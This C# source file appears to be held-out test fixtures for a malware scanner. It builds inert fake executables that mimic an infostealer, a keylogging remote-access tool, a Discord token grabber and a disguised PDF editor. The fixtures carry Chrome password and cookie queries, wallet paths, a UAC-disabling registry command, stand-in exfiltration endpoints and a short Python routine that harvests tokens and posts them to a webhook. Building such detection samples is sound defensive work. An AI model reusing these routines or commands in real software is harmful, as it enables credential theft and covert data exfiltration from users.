using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Programs whose texts are those of password thieves, remote-control tools and key loggers; their code returns at once.</summary>
public sealed class ThievingPrograms : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Web = "InternetOpenA InternetConnectA HttpOpenRequestA HttpSendRequestA InternetReadFile";
        yield return ("build.exe", new EighthImage { Is64 = false }.Runtime().Importing("WININET.dll", Web).Importing("CRYPT32.dll", "CryptUnprotectData CryptStringToBinaryA").Importing("GDI32.dll", "BitBlt CreateCompatibleBitmap CreateCompatibleDC").Importing("bcrypt.dll", "BCryptDecrypt BCryptGenerateSymmetricKey")
            .With("\\Google\\Chrome\\User Data", "\\Login Data", "SELECT origin_url, username_value, password_value FROM logins", "SELECT host_key, path, is_secure, expires_utc, name, encrypted_value FROM cookies", "\\Local State", "encrypted_key", "\\logins.json", "wallet.dat", "\\Exodus\\exodus.wallet", "\\Electrum\\wallets", "nkbihfbeogaeaoehlefnkodbefgpgknn", "\\Telegram Desktop\\tdata", "FileZilla\\recentservers.xml", "screenshot.jpg", "passwords.txt", "information.txt", "http://192.0.2.144/gate.php", "hwid=%s&build=%s").Build());
        yield return ("Client.exe", new EighthImage().Runtime().Importing("USER32.dll", "SetWindowsHookExA GetAsyncKeyState GetForegroundWindow GetWindowTextA GetKeyNameTextA CallNextHookEx OpenClipboard GetClipboardData").Importing("WS2_32.dll", "WSAStartup socket connect send recv gethostbyname").Importing("WINMM.dll", "waveInOpen waveInStart").Importing("ADVAPI32.dll", "RegSetValueExA RegCreateKeyExA")
            .With("Remote Shell Active", "[Cursorlist]", "Offline Keylogger Started", "Online Keylogger Stopped", "\\logs.dat", "keylogger", "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\", "uninstall", "getcamframe", "deletefile", "EnableLUA", "/k %windir%\\System32\\reg.exe ADD HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f", "rat-host.example:2404", "Mutex_RmcXq").Resource(10, 200, Noise(400, 61)).Build());
        yield return ("nitro_generator.exe", PyInstallerBuilder.Append(new EighthImage().Runtime().Importing("KERNEL32.dll", "GetTempPathW CreateProcessW LoadLibraryExW GetProcAddress").With("_MEIPASS2", "pyi-runtime-tmpdir", "Cannot open PyInstaller archive from executable (%s) or external archive (%s)", "python311.dll").Build(),
            ('s', "main", Utf8("import os,re,json,base64,sqlite3,shutil\nfrom urllib.request import Request,urlopen\nHOOK='https://discord.com/api/webhooks/0000/example-not-real'\nROAM=os.getenv('APPDATA');LOCAL=os.getenv('LOCALAPPDATA')\nPATHS={'Discord':ROAM+'\\\\discord','Chrome':LOCAL+'\\\\Google\\\\Chrome\\\\User Data\\\\Default'}\ndef tokens(p):\n    for f in os.listdir(p+'\\\\Local Storage\\\\leveldb'):\n        for t in re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}',open(p+'\\\\Local Storage\\\\leveldb\\\\'+f,errors='ignore').read()):yield t\ndef send(x):urlopen(Request(HOOK,data=json.dumps({'content':x}).encode(),headers={'Content-Type':'application/json'}))\n")),
            ('m', "Crypto.Cipher.AES", Noise(200, 5)), ('b', "sqlite3.dll", InertFiles.Pe(2048))));
        yield return ("PDF-Editor-Pro.exe", new EighthImage { Stamp = 0x6A200000 }.Runtime().Importing("WINHTTP.dll", "WinHttpOpen WinHttpConnect WinHttpSendRequest WinHttpReceiveResponse").Importing("CRYPT32.dll", "CryptUnprotectData").Importing("USER32.dll", "GetRawInputData RegisterRawInputDevices GetForegroundWindow").Version("PDF Editor Pro Ltd", "PDF Editor", "pdfed.exe")
            .With("api.telegram.org", "/bot0000000000:EXAMPLE-not-a-token/sendDocument?chat_id=", "Lo%sgin%s Da%sta", "Coo%skies", "wal%slets", "%s\\%s\\User Data\\%s\\Net%swork", "os_c%srypt", "ip-api.com/json", "SELECT * FROM Win32_VideoController", "VMware SVGA", "grabber_", "Content-Disposition: form-data; name=\"document\"; filename=\"%s.zip\"").Section(".conf", Noise(2000, 66), 0xC0000040).Build());
    }
}
